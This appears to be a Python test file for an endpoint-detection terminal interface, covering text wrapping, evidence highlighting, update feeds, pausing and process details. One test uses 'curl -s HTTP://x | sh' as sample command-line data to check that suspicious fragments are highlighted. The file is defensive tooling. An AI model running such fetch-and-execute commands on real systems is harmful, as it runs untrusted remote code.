"""Durations, wrapping, evidence, the feed: small pure parts of the screen."""

from dataclasses import replace

from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len

from edr_tui.model.alert import AlertState
from edr_tui.model.ledger import LedgerView, SourceHealth, SourceState
from edr_tui.model.process import Exit, Process
from edr_tui.model.table import ProcessTable
from edr_tui.model.update import Update
from edr_tui.ui.detail import DetailLines
from edr_tui.ui.detail import Subject as DetailSubject
from edr_tui.ui.evidence import marked
from edr_tui.ui.feed import Feed
from edr_tui.ui.pause import Pause
from edr_tui.ui.wrapping import wrap
from tests.telling import EPOCH, Teller, alert_about
from tests.ui.builders import NOW, process

texts = st.text(st.sampled_from("ab 漢́😀-"), max_size=40)


@given(st.lists(st.tuples(texts, st.sampled_from(["", "bold"])), max_size=6), st.integers(2, 20))
def test_wrapping_loses_nothing_but_blanks_at_line_ends(runs, width):
    lines = wrap(runs, width)
    assert all(line.cell_length <= width for line in lines)
    told = "".join(text for text, _ in runs)
    assert "".join(line.plain for line in lines).replace(" ", "") == told.replace(" ", "")


def test_wrapping_cuts_at_blanks_and_inside_what_is_too_long():
    assert [line.plain for line in wrap([("one two three", "")], 7)] == ["one ", "two ", "three"]
    assert [line.plain for line in wrap([("abcdefghij", "")], 4)] == ["abcd", "efgh", "ij"]
    assert [line.plain for line in wrap([("漢漢漢", "")], 5)] == ["漢漢", "漢"]
    assert [line.plain for line in wrap([], 5)] == [""]


def test_wrapping_a_long_line_is_linear():
    lines = wrap([("x" * 4096, ""), ("y " * 2048, "")], 50)
    assert sum(cell_len(line.plain.rstrip()) for line in lines) <= 8192
    assert len(lines) < 180


def test_evidence_is_found_in_any_case_and_merged_where_it_overlaps():
    runs = [("curl -s HTTP://x | sh", False), ("\\x1b", True)]
    assert marked(runs, ["http://X | ", "| sh", ""]) == [
        ("curl -s ", False, False),
        ("HTTP://x | sh", False, True),
        ("\\x1b", True, False),
    ]


@given(
    st.lists(st.tuples(st.text(max_size=20), st.booleans()), max_size=5),
    st.lists(st.text(max_size=4), max_size=3),
)
def test_marking_changes_no_text(runs, evidence):
    pieces = marked(runs, evidence)
    assert "".join(text for text, _, _ in pieces) == "".join(text for text, _ in runs)


def update_with(**more):
    source = SourceState(health=SourceHealth.LIVE, since_ns=EPOCH)
    return Update(at_ns=EPOCH, ledger=LedgerView(), source=source, **more)


def processes(*pids):
    tell, table = Teller(), ProcessTable()
    return tuple(table.apply(tell.start(tell.record(pid))).process for pid in pids)


def test_the_feed_merges_and_announces_once():
    announced = []
    feed = Feed(lambda: announced.append(1))
    (one, two) = processes(10, 11)
    alert = alert_about("a")
    feed.put(update_with(processes=(one,), alerts=(alert,)))
    feed.put(update_with(processes=(two,), evicted=(one.entity_id,)))
    assert announced == [1]
    update = feed.take()
    assert update.processes == (two,)
    assert update.evicted == (), "who takes it never had it"
    assert update.alerts == (alert,)
    assert feed.take() is None
    feed.put(update_with(evicted=(two.entity_id,), closed=(alert.id,)))
    assert announced == [1, 1]
    update = feed.take()
    assert update.evicted == (two.entity_id,)
    assert update.closed == (alert.id,)


def test_what_came_and_left_while_nobody_took_leaves_nothing_in_the_feed():
    feed = Feed(lambda: None)
    (stays,) = processes(9)
    feed.put(update_with(processes=(stays,)))
    feed.take()
    for one in processes(*range(10, 2010)):
        alert = alert_about(one.entity_id, rule=one.entity_id)
        feed.put(update_with(processes=(one,), alerts=(alert,)))
        feed.put(update_with(processes=(stays,), evicted=(one.entity_id,), closed=(alert.id,)))
    update = feed.take()
    assert update.processes == (stays,)
    assert (update.evicted, update.alerts, update.closed) == ((), (), ())
    assert feed._taken_processes == {stays.entity_id}
    assert feed._taken_alerts == set()


@given(
    st.lists(
        st.tuples(
            st.lists(st.integers(0, 3), unique=True),
            st.lists(st.integers(0, 3), unique=True),
            st.booleans(),
        ),
        max_size=12,
    )
)
def test_a_feed_leads_to_the_same_processes_however_seldom_it_is_taken(puts):
    feed, kinds, seen, expected = Feed(lambda: None), processes(*range(10, 14)), set(), set()
    for number, (arrivals, departures, takes) in enumerate(puts):
        came, left = ({kinds[kind].entity_id for kind in numbers} for numbers in (arrivals, departures))
        told = tuple(one for one in kinds if one.entity_id in came)
        feed.put(update_with(processes=told, evicted=tuple(left)))
        expected = (expected | came) - left
        if takes or number == len(puts) - 1:
            update = feed.take()
            seen |= {one.entity_id for one in update.processes}
            assert set(update.evicted) <= seen
            seen -= set(update.evicted)
            assert seen == expected


def test_a_pause_counts_without_keeping_what_came_and_left():
    shown_process, *others = processes(*range(10, 1010))
    ended = {one.entity_id: replace(one, exit=Exit(at_ns=EPOCH)) for one in (shown_process, *others)}
    alert = alert_about(shown_process.entity_id)
    shown_processes, shown_alerts = {shown_process.entity_id: shown_process}, {alert.id: alert}
    pause = Pause(shown_processes.get, shown_alerts.get)
    for one in others:
        new = alert_about(one.entity_id, rule=one.entity_id)
        pause.hold(update_with(processes=(one,), alerts=(new, alert)))
        pause.hold(update_with(processes=(one,), alerts=(new,)))
        pause.hold(update_with(processes=(ended[one.entity_id],)))
        pause.hold(update_with(processes=(ended[one.entity_id],)))
        pause.hold(update_with(evicted=(one.entity_id,), closed=(new.id,)))
    assert pause.counts.words == "999 started, 999 exited, 999 alerts"
    pause.hold(update_with(processes=(ended[shown_process.entity_id],)))
    assert pause.counts.exited == 1000
    pause.hold(update_with(evicted=(shown_process.entity_id,), closed=(alert.id,)))
    update = pause.release()
    assert (update.processes, update.alerts) == ((), ())
    assert (update.evicted, update.closed) == ((shown_process.entity_id,), (alert.id,))
    kept = [value for value in vars(pause).values() if isinstance(value, (set, dict, list))]
    assert kept == []


def test_the_feed_keeps_the_newest_and_what_came_back():
    feed = Feed(lambda: None)
    (one,) = processes(10)
    again = Process(**{name: getattr(one, name) for name in Process.__slots__} | {"folded": 3})
    acked = alert_about("a", state=AlertState.ACKNOWLEDGED)
    feed.put(update_with(evicted=(one.entity_id,), processes=(one,), alerts=(alert_about("a"),)))
    feed.put(update_with(processes=(again,), alerts=(acked,)))
    feed.put(update_with(alerts=(gone := alert_about("b", rule="r2"),)))
    feed.take()
    feed.put(update_with(processes=(again,), alerts=(acked,)))
    feed.put(update_with(closed=(gone.id,)))
    update = feed.take()
    assert update.processes == (again,)
    assert update.evicted == ()
    assert update.alerts == (acked,)
    assert update.closed == (gone.id,)


def test_the_detail_tells_where_a_process_comes_from():
    one = replace(
        process("a"),
        group_id="33",
        login_uid="1000",
        session_leader_pid=811,
        cgroup_id=4242,
        container_id="c0ffee",
        hidden="/proc does not list it",
    )
    lines = [" ".join(line.plain.split()) for line in DetailLines().of(DetailSubject(process=one), 80, NOW)]
    for told in ("group 33", "session 811", "login uid 1000", "cgroup 4242", "container c0ffee"):
        assert told in lines
    assert "hidden /proc does not list it" in lines
